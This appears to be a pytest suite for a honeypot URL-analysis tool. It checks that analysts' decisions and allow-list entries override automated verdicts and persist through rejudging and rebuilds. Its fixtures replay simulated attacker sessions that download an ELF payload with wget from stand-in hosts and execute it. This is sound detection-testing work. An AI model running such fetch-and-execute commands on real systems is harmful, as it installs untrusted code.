"""What people decide counts before all evidence, and stays: judged again, made anew, past all retention."""

from __future__ import annotations

import os
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from tests.pipeline.conftest import ELF, Bench

from urltrap.journal import JournalWriter
from urltrap.journal.folder import list_segments
from urltrap.model.decisions import WRITER
from urltrap.model.event import Decided
from urltrap.model.ids import new_ulid
from urltrap.pipeline.rebuilding import rebuild
from urltrap.pipeline.rejudging import rejudge
from urltrap.store import Store, decisions, open_store
from urltrap.store.queries import urls

SUSPECT = "http://198.51.100.7/tool"
RUN = "http://198.51.100.8/bot"
NAMED = "http://files.botnet.xyz/x"


class Desk:
    """Somebody who decides."""

    def __init__(self, bench: Bench) -> None:
        self.bench = bench
        self.writer = JournalWriter(bench.folder / "journal", WRITER, bench.settings.journal)
        self.made = 0

    def decide(self, subject: str, decision: str, reason: str = "") -> None:
        self.made += 1
        session = new_ulid(1_795_000_200_000 + self.made, self.made.to_bytes(10, "big"))
        event = Decided(
            session=session,
            seq=0,
            at=self.bench.time,
            by="ada",
            subject=subject,
            decision=decision,
            reason=reason,
        )
        self.writer.wait_durable(self.writer.append(event), 20)
        self.bench.time += timedelta(seconds=1)
        self.bench.settle()

    def verdict(self, url: str, store: Store | None = None) -> str:
        found = urls.detail(store or self.bench.store, url)
        assert found is not None and found.verdict is not None
        return found.verdict.verdict


@pytest.fixture
def desk(bench: Bench) -> Iterator[Desk]:
    bench.fetcher.bodies.update({SUSPECT: ELF, RUN: ELF})
    for url, runs in ((SUSPECT, []), (RUN, [[b"./.x"]]), (NAMED, [])):
        bench.visit(b"wget -O .x %s" % url.encode(), asks=[(url.encode(), b"/tmp/.x")], runs=runs)
    bench.settle()
    made = Desk(bench)
    yield made
    made.writer.close()


def test_a_decision_about_a_url_goes_before_the_evidence_until_it_is_withdrawn(desk: Desk) -> None:
    before = {url: desk.verdict(url) for url in (SUSPECT, RUN, NAMED)}
    assert before == {SUSPECT: "suspicious", RUN: "malicious-observed", NAMED: "suspicious"}
    desk.decide(SUSPECT, "malicious", "the same bot as yesterday")
    desk.decide(RUN, "benign", "our own installer")
    desk.decide(NAMED, "leave", "nothing to see")
    assert [desk.verdict(url) for url in (SUSPECT, RUN, NAMED)] == [
        "malicious-confirmed", "benign-context", "suspicious",
    ]  # fmt: skip
    found = urls.detail(desk.bench.store, SUSPECT)
    assert found is not None and found.verdict is not None and found.verdict.confidence >= 95
    said = found.verdict.model_dump_json()
    assert "a person looked at it" in said
    assert "ada" not in said and "yesterday" not in said, "reasons are published"
    assert sum(reason.weight for reason in found.verdict.reasons) == found.verdict.confidence
    benign = urls.detail(desk.bench.store, RUN)
    assert benign is not None and benign.row.confidence <= 10 and benign.row.published_at is None
    desk.decide(SUSPECT, "withdrawn")
    desk.decide(RUN, "leave")
    assert {url: desk.verdict(url) for url in (SUSPECT, RUN, NAMED)} == before


def test_decisions_outlive_judging_again_and_making_the_store_anew(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk.decide(SUSPECT, "malicious")
    desk.decide("198.51.100.8", "allow")
    expected = {SUSPECT: "malicious-confirmed", RUN: "benign-context", NAMED: "suspicious"}
    assert not [moved for moved in rejudge(desk.bench.workshop) if moved[0] != moved[1]]
    assert {url: desk.verdict(url) for url in expected} == expected
    fresh = open_store(str(tmp_path / "fresh.db"))
    make = desk.bench.make_workshop
    monkeypatch.setattr("urltrap.pipeline.rebuilding.make_workshop", lambda *_: make(fresh))
    rebuild(desk.bench.settings, desk.bench.folder, fresh)
    assert {url: desk.verdict(url, fresh) for url in expected} == expected
    assert [made.decision for made in decisions.history(fresh, SUSPECT)] == ["malicious"]
    fresh.close()


@pytest.mark.parametrize(
    ("entry", "allowed"),
    [
        ("198.51.100.8", {RUN}),
        ("198.51.100.0/29", {SUSPECT}),
        ("198.51.100.0/24", {SUSPECT, RUN}),
        ("files.botnet.xyz", {NAMED}),
        (".botnet.xyz", {NAMED}),
        ("botnet.xyz", set()),
        (".net.xyz", set()),
        ("2001:db8::/32", set()),
    ],
)
def test_an_entry_of_the_allow_list_is_about_its_hosts_alone_until_it_is_taken_off(
    desk: Desk, entry: str, allowed: set[str]
) -> None:
    before = {url: desk.verdict(url) for url in (SUSPECT, RUN, NAMED)}
    desk.decide(entry, "allow", "ours")
    assert {url for url in before if desk.verdict(url) == "benign-context"} == allowed
    desk.decide(entry, "disallow")
    assert {url: desk.verdict(url) for url in before} == before


def test_what_is_decided_about_a_url_goes_before_what_is_allowed(desk: Desk) -> None:
    desk.decide("198.51.100.0/24", "allow")
    desk.decide(RUN, "malicious")
    assert (desk.verdict(RUN), desk.verdict(SUSPECT)) == ("malicious-confirmed", "benign-context")


def test_decisions_about_what_is_not_there_harm_nobody_and_count_when_it_comes(desk: Desk) -> None:
    desk.decide("http://198.51.100.60/later", "benign")
    desk.bench.fetcher.bodies["http://198.51.100.60/later"] = ELF
    for number in (1, 2):
        desk.bench.visit(
            b"wget http://198.51.100.60/later", asks=[(b"http://198.51.100.60/later", b"/tmp/y")],
            runs=[[b"./y"]], address=f"203.0.113.{number}",
        )  # fmt: skip
    desk.bench.settle()
    assert desk.verdict("http://198.51.100.60/later") == "benign-context"


def test_the_journal_of_decisions_is_packed_and_never_expires(desk: Desk) -> None:
    desk.decide(SUSPECT, "malicious")
    for name in (WRITER, "trap-0"):
        folder = desk.bench.folder / "journal" / name
        if name == WRITER:
            desk.writer.close()
            desk.writer = JournalWriter(desk.bench.folder / "journal", WRITER, desk.bench.settings.journal)
            desk.decide(RUN, "benign")
        for segment in list_segments(folder):
            os.utime(segment.path, (0, 0))
    for _ in range(2):
        desk.bench.time += timedelta(days=4000)
        desk.bench.line._intake.tidy()
        for segment in list_segments(desk.bench.folder / "journal" / WRITER):
            os.utime(segment.path, (0, 0))
    packed = [segment.archived for segment in list_segments(desk.bench.folder / "journal" / WRITER)]
    assert packed == [True, False]


def test_the_queue_holds_what_is_suspicious_and_undecided(desk: Desk) -> None:
    store = desk.bench.store

    def queue(which: decisions.Queue = "open") -> set[str]:
        return {row.url for row in decisions.queue(store, which).rows}

    assert queue() == {SUSPECT, NAMED} and queue("left") == set()
    first = decisions.queue(store, limit=1)
    second = decisions.queue(store, cursor=first.next, limit=1)
    assert {first.rows[0].url, second.rows[0].url} == {SUSPECT, NAMED} and second.next is None
    desk.decide(SUSPECT, "leave")
    desk.decide(NAMED, "benign")
    assert (queue(), queue("left")) == (set(), {SUSPECT})
    desk.decide(NAMED, "withdrawn")
    desk.decide(SUSPECT, "withdrawn")
    assert (queue(), queue("left")) == ({SUSPECT, NAMED}, set())
    desk.decide(SUSPECT, "malicious")
    desk.decide(SUSPECT, "leave")
    assert (queue(), queue("left")) == ({NAMED}, {SUSPECT})
